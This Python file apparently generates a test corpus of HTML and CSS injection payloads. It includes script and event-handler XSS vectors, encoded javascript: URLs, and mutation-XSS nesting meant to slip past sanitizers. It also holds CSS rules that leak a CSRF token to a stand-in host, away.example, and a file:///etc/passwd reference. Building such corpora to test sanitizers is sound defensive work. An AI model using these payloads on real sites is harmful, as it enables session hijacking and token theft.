"""Markup that wants to run, cover, fetch or call home: made by combination of what is known to have worked somewhere."""

from itertools import product

RUN = "hit()"
AWAY = "//away.example/x"

ACTIVE = [
    f"<script>{RUN}</script>",
    f"<script src={AWAY}></script>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set attributeName=onmouseover to={RUN}>",
    f"<svg><a xlink:href=javascript:{RUN}><text>x</text></a></svg>",
    f"<svg><use href=data:image/svg+xml,<svg id=x onload={RUN}>#x>",
    f"<svg><foreignObject><iframe srcdoc='<script>{RUN}</script>'></foreignObject></svg>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x</maction></math>",
    f"<math href=javascript:{RUN}>x</math>",
    f"<iframe src=javascript:{RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
    f"<iframe src={AWAY}></iframe>",
    f"<frameset onload={RUN}><frame src=javascript:{RUN}>",
    f"<object data=javascript:{RUN}></object>",
    f"<object data='data:text/html,<script>{RUN}</script>'></object>",
    f"<embed src=javascript:{RUN}>",
    f"<applet code={AWAY}>",
    f"<form action=javascript:{RUN}><input type=submit autofocus onfocus={RUN}></form>",
    f"<form action={AWAY}><button formaction=javascript:{RUN}>x</button></form>",
    f"<input onfocus={RUN} autofocus>",
    f"<select onfocus={RUN} autofocus><option>x</select>",
    f"<textarea onfocus={RUN} autofocus>x</textarea>",
    f"<keygen autofocus onfocus={RUN}>",
    f"<body onload={RUN}>",
    f"<html onmouseover={RUN}>",
    f"<video src={AWAY} onerror={RUN}></video>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src={AWAY} onerror={RUN}>",
    f"<video poster={AWAY}>",
    f"<picture><source srcset={AWAY}><img src={AWAY}></picture>",
    f"<img srcset='{AWAY} 1x'>",
    f"<img lowsrc={AWAY} dynsrc={AWAY}>",
    f"<input type=image src={AWAY}>",
    f"<link rel=stylesheet href={AWAY}>",
    f"<link rel=prefetch href={AWAY}>",
    f"<link rel=dns-prefetch href={AWAY}>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    "<meta http-equiv=content-security-policy content='img-src *'>",
    f"<base href={AWAY}>",
    f"<base target=_self href=javascript:{RUN}//>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<isindex type=image src=1 onerror={RUN}>",
    f"<template><script>{RUN}</script></template>",
    f"<portal src={AWAY}>",
    f"<dialog open onclose={RUN}>x</dialog>",
    f"<xml id=x><a><b>&lt;script>{RUN}&lt;/script></b></a></xml>",
    f"<comment><img src='</comment><img src=x onerror={RUN}//'>",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"<?xml-stylesheet href=javascript:{RUN}?>",
    f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<!--!><img src=x onerror={RUN}>-->",
    f"<a href='x' ping={AWAY}>x</a>",
    f"<table background={AWAY}><tr><td background={AWAY}>x",
    f"<a name=x id=cookie class=rail data-key=n hx-get={AWAY} hx-trigger=load>x</a>",
    f"<div hx-on:load={RUN} hx-vals='js:{RUN}' data-hx-get={AWAY}>x</div>",
    f"<th-mark onclick={RUN}>x</th-mark>",
    f"<p contenteditable onfocus={RUN} autofocus tabindex=1>x",
    f"<p style=animation-name:x onanimationstart={RUN}>x",
    f"<img src=x:x onerror={RUN}",
    f"<img/src=x/onerror={RUN}>",
    f"<IMG SRC=x ONERROR={RUN}>",
    f'<img """><script>{RUN}</script>">',
    f"<img src=`x`onerror={RUN}>",
    f"<a title='><img src=x onerror={RUN}>'>x</a>",
    f'<a title="&quot;><img src=x onerror={RUN}>">x</a>',
    f"<img alt='`onerror={RUN}`' src=x>",
    f"<\x00script>{RUN}</script>",
    f"<scr\x00ipt>{RUN}</scr\x00ipt>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"\ufe64script\ufe65{RUN}\ufe64/script\ufe65",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"<data-remote-src><img data-remote-src=javascript:{RUN} data-cid=x src=x>",
    f"<img title='\" data-remote-src=\"javascript:{RUN}'>",
    f'<img alt=\'x" src="{AWAY}\' title=">">',
]

EVENTS = [
    "onclick",
    "onerror",
    "onload",
    "onmouseover",
    "onfocus",
    "onpointerenter",
    "onanimationend",
    "ontransitionend",
    "onbeforetoggle",
    "onwheel",
]
CARRIERS = ["a", "img", "p", "div", "table", "td", "span", "font", "li", "blockquote"]
QUOTES = ["{0}={1}", "{0}='{1}'", '{0}="{1}"', "/{0}={1}", "x={0}={1} {0}={1}", "{0}\n=\n{1}"]
HANDLED = [
    f"<{tag} src=x {quote.format(event, RUN)}>x</{tag}>" for tag, event, quote in product(CARRIERS, EVENTS, QUOTES)
]

SCHEMES = [
    f"javascript:{RUN}",
    f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"data:image/svg+xml,<svg onload={RUN}>",
    "data:image/png;base64,iVBORw0KGgo=",
    f"blob:{AWAY}",
    "file:///etc/passwd",
    f"view-source:javascript:{RUN}",
    f"feed:javascript:{RUN}",
    f"jar:{AWAY}!/x",
    f"ws:{AWAY}",
    f"intent:{AWAY}",
    f"ms-word:ofe|u|http:{AWAY}",
    AWAY,
    "\\\\away.example\\x",
    "/sign-out",
    "?delete=1",
    "#x",
]
DRESSES = [
    lambda value: value,
    lambda value: value.upper() if value.startswith(("j", "v", "d")) else value.title(),
    lambda value: f" \t\n{value}",
    lambda value: f"\x01\x1f{value}",
    lambda value: value[:3] + "\t" + value[3:],
    lambda value: value[:3] + "&#10;" + value[3:],
    lambda value: "".join(f"&#{ord(one)};" for one in value),
    lambda value: "".join(f"&#x{ord(one):x}" for one in value) + " ",
    lambda value: "".join(f"&#{ord(one):07d}" for one in value) + " ",
    lambda value: value.replace(":", "&colon;"),
    lambda value: value.replace(":", "%3A"),
    lambda value: value.replace("a", "&#97;").replace("(", "&lpar;"),
    lambda value: value[:2] + "\x00" + value[2:],
    lambda value: value[:2] + "\u200b" + value[2:],
    lambda value: value[:1] + "&Tab;&NewLine;" + value[1:],
]
PLACES = [
    "<a href='{0}'>x</a>",
    '<img src="{0}">',
    "<area href='{0}'>",
    '<a xlink:href="{0}">x</a>',
    "<font color='{0}'>x</font>",
]
ADDRESSES = [place.format(dress(scheme)) for place, dress, scheme in product(PLACES, DRESSES, SCHEMES)]

ROOTS = ["math", "svg", "form><math", "table><svg", "p><svg"]
POINTS = ["mtext", "mi", "annotation-xml encoding=text/html", "foreignObject", "desc", "title", "mglyph", "malignmark"]
RAW = ["style", "xmp", "noembed", "noscript", "iframe", "textarea", "title", "script", "plaintext", "noframes"]
HIDES = [
    "<{raw}><!--</{raw}><img title='--&gt;&lt;img src=1 onerror={run}&gt;'>",
    "<{raw}><a title='</{raw}><img src=1 onerror={run}>'>",
    "<{raw}>&lt;/{raw}&gt;&lt;img src=1 onerror={run}&gt;</{raw}>",
]
MUTATING = [
    f"<{root}><{point}><table><mglyph>{hide.format(raw=raw, run=RUN)}"
    for root, point, raw, hide in product(ROOTS, POINTS, RAW, HIDES)
]
MUTATING += [
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<svg></p><style><a id='</style><img src=1 onerror={RUN}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title='</style><img src onerror={RUN}>'>",
    f"<select><template><style><!--</style><a rel='--></style></template></select><img src onerror={RUN}>'>",
    "<table>" * 60 + f"<b><img src=x onerror={RUN}>",
    "<b>" * 300 + f"<p><img src=x onerror={RUN}>",
    "<div>" * 600 + f"<svg><style><img src=x onerror={RUN}>",
    "<a>" * 2500 + f"<style><a title='</style><img src=x onerror={RUN}>'>",
]

DECLARATIONS = [
    f"background:url({AWAY})",
    f"background-image:url('{AWAY}')",
    f"background-color:url({AWAY})",
    f"color:u\\72l({AWAY})",
    f"color:\\75rl({AWAY})",
    f"color:u/**/rl({AWAY})",
    f"width:expression({RUN})",
    f"width:exp/**/ression({RUN})",
    "behavior:url(x.htc)",
    "-moz-binding:url(x.xml#x)",
    "position:fixed;top:0;left:0",
    "position:absolute",
    "POSITION : Fixed",
    "float:left;z-index:99999",
    "transform:scale(100)",
    "opacity:0",
    "display:block",
    "margin:-9999px",
    f"list-style-image:url({AWAY})",
    f"border-image:url({AWAY})",
    f"border:1px solid url({AWAY})",
    f"cursor:url({AWAY}),auto",
    f"content:url({AWAY})",
    f"font-family:x;src:url({AWAY})",
    f"@import '{AWAY}'",
    "color:var(--x)",
    "--x:red",
    "width:attr(title)",
    f"color:red}}</style><script>{RUN}</script>",
    f"background-color:image-set('{AWAY}' 1x)",
    f"filter:url({AWAY}#x)",
    "width:calc(100vw)",
    "color:red;;;;:;x",
    "animation:x 1s",
]
STYLED = [f'<p style="{one}">x</p>' for one in DECLARATIONS]
STYLED += [f"<td style='{one.replace(chr(39), chr(34))}'>x" for one in DECLARATIONS]
STYLED += [f"<style>p{{{one}}}</style><p>x" for one in DECLARATIONS]
STYLED += [
    f"<style>@import '{AWAY}';</style>",
    f"<style>input[name=csrfmiddlewaretoken][value^={letter}]{{background:url({AWAY}/{letter})}}</style>"[:200]
    if (letter := "a")
    else "",
    f"<style>@font-face{{font-family:x;src:url({AWAY});unicode-range:U+0041}}</style>",
    f"<svg><style>@import '{AWAY}'</style></svg>",
    "<div class='dialog toast' id='main' style='inset:0;position:sticky'>x</div>",
]

PAYLOADS = list(dict.fromkeys([*ACTIVE, *HANDLED, *ADDRESSES, *MUTATING, *STYLED]))
